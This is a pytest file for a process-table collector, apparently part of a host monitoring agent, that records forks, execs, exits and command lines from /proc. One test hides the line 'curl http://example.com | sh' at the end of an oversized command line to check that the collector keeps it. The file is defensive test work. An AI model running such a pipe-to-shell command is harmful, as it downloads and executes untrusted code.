"""The process table: names that outlive their processes, fed by forks, execs and exits."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from collectors.sources import who
from collectors.sources.who import Processes, Seen, Who

NOBODY_IS = 4_000_000
"""Above the kernel's highest process id: /proc never has it."""


@pytest.fixture
def table(tmp_path: Path) -> Processes:
    """Fed, with an empty /proc: it knows what it is told."""
    processes = Processes(tmp_path)
    processes.fed = True
    return processes


def test_a_running_process_has_image_user_command_line_and_parent() -> None:
    found = Processes().find(os.getpid())
    assert found is not None
    assert found.who == Who(os.getpid(), os.path.realpath(sys.executable), who.user_name(os.geteuid()))
    assert found.parent == os.getppid()
    assert found.folder == str(Path.cwd())


def test_a_process_that_ended_before_it_was_asked_about_is_named_as_it_was_told(table: Processes) -> None:
    table.forked(NOBODY_IS, 1, 1.0)
    table.executed(NOBODY_IS, "/opt/tool", 2.0, None)
    table.exited(NOBODY_IS)
    assert table.who(NOBODY_IS) == Who(NOBODY_IS, "/opt/tool", "")


def test_a_fork_is_its_parents_image_and_user_until_it_executes(tmp_path: Path) -> None:
    table = Processes()
    table.backfill()
    table.fed = True
    table.forked(NOBODY_IS, os.getpid(), 1.0)
    mine = table.who(os.getpid())
    assert table.who(NOBODY_IS) == mine._replace(pid=NOBODY_IS)
    table.executed(NOBODY_IS, str(tmp_path / "tool"), 2.0, None)
    assert table.who(NOBODY_IS) == Who(NOBODY_IS, str(tmp_path / "tool"), mine.user)


def test_a_program_started_by_a_relative_path_is_found_from_its_folder() -> None:
    table = Processes()
    table.fed = True
    table.forked(NOBODY_IS, os.getpid(), 1.0)
    table.executed(NOBODY_IS, "./tool", 2.0, None)
    assert table.who(NOBODY_IS).image == str(Path.cwd() / "tool")


def test_a_setuid_program_runs_as_its_owner(tmp_path: Path) -> None:
    program = tmp_path / "tool"
    program.touch()
    program.chmod(0o4755)
    table = Processes(tmp_path)
    table.executed(NOBODY_IS, str(program), 1.0, None)
    assert table.who(NOBODY_IS).user == who.user_name(os.geteuid())


def test_what_was_seen_just_after_a_start_is_taken_in_later(table: Processes) -> None:
    table.forked(NOBODY_IS, 1, 1.0)
    first = Seen("/usr/bin/env", b"env\0tool\0", 1.5, os.geteuid(), "/srv")
    assert table.executed(NOBODY_IS, "/usr/bin/env", 2.0, first).command_line == "env tool"
    going = Seen("/opt/tool", b"tool\0-v\0", 2.5)
    now = table.executed(NOBODY_IS, "/opt/tool", 3.0, going)
    assert now.who == Who(NOBODY_IS, "/opt/tool", who.user_name(os.geteuid()))
    assert (now.command_line, now.parent, now.folder) == ("tool -v", 1, "/srv")


def test_a_number_that_is_used_again_is_the_new_process(table: Processes) -> None:
    for image in ("/first", "/second"):
        table.forked(NOBODY_IS, 1, 1.0)
        table.executed(NOBODY_IS, image, 2.0, None)
        table.exited(NOBODY_IS)
    assert table.who(NOBODY_IS).image == "/second"


def test_the_table_is_bounded_and_counts_whom_it_forgot(table: Processes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(who, "ALIVE", 10)
    monkeypatch.setattr(who, "ENDED", 5)
    for pid in range(NOBODY_IS, NOBODY_IS + 12):
        table.executed(pid, f"/tool{pid}", 1.0, None)
    assert (table.forgotten, table.who(NOBODY_IS).image) == (2, "")
    for pid in range(NOBODY_IS + 2, NOBODY_IS + 12):
        table.exited(pid)
    named = [pid for pid in range(NOBODY_IS, NOBODY_IS + 12) if table.who(pid).image]
    assert named == list(range(NOBODY_IS + 7, NOBODY_IS + 12))


def test_without_the_kernels_records_the_last_look_is_kept() -> None:
    table = Processes()
    with subprocess.Popen(["sleep", "60"]) as process:
        while "sleep" not in table.who(process.pid).image:
            pass
        process.kill()
        process.wait()
    assert "sleep" in table.who(process.pid).image


def test_bytes_that_are_no_utf8_stay_readable() -> None:
    assert who.readable("/tmp/\udcff도면") == "/tmp/\\xff도면"


def test_a_program_started_by_its_descriptor_is_not_taken_for_a_file_of_the_agents_own(table: Processes) -> None:
    with Path("/bin/true").open("rb") as file:
        table.forked(NOBODY_IS, 1, 1.0)
        table.executed(NOBODY_IS, f"/dev/fd/{file.fileno()}", 2.0, None)
        assert table.who(NOBODY_IS).image == f"/dev/fd/{file.fileno()}"


def proc(folder: Path, command: bytes) -> Processes:
    """One process, as /proc shows it."""
    (folder / str(NOBODY_IS)).mkdir()
    (folder / str(NOBODY_IS) / "cmdline").write_bytes(command)
    (folder / str(NOBODY_IS) / "exe").symlink_to("/opt/tool")
    (folder / str(NOBODY_IS) / "cwd").symlink_to("/")
    (folder / str(NOBODY_IS) / "stat").write_text(f"{NOBODY_IS} (tool) S 1 " + "0 " * 20)
    return Processes(folder)


@pytest.mark.parametrize("size", [4096, 5000, 8000])
def test_a_long_command_line_is_told_whole(tmp_path: Path, size: int) -> None:
    command = b"tool\0" + b"x" * (size - 12) + b"\0needle\0"
    table = proc(tmp_path, command)
    told = table.executed(NOBODY_IS, "/opt/tool", 1.0, table.see(NOBODY_IS)).command_line
    assert told == command.decode().rstrip("\0").replace("\0", " ")
    known = table.find(NOBODY_IS)
    assert known is not None
    assert len(known.command_line) == who.LONGEST_COMMAND


def test_of_a_command_line_beyond_measure_beginning_and_end_are_told(tmp_path: Path) -> None:
    table = proc(tmp_path, b"tool\0" + b"x" * 1_000_000 + b"\0curl http://example.com | sh\0")
    told = table.executed(NOBODY_IS, "/opt/tool", 1.0, table.see(NOBODY_IS)).command_line
    assert told.startswith("tool xxxx")
    assert told.endswith("xx curl http://example.com | sh")
    assert "bytes…" in told
    assert len(told) < 9000


def test_a_program_that_a_thread_executes_keeps_its_parent(table: Processes) -> None:
    table.forked(NOBODY_IS, 77, 1.0)
    table.exited(NOBODY_IS)
    assert table.executed(NOBODY_IS, "/opt/tool", 2.0, None).parent == 77
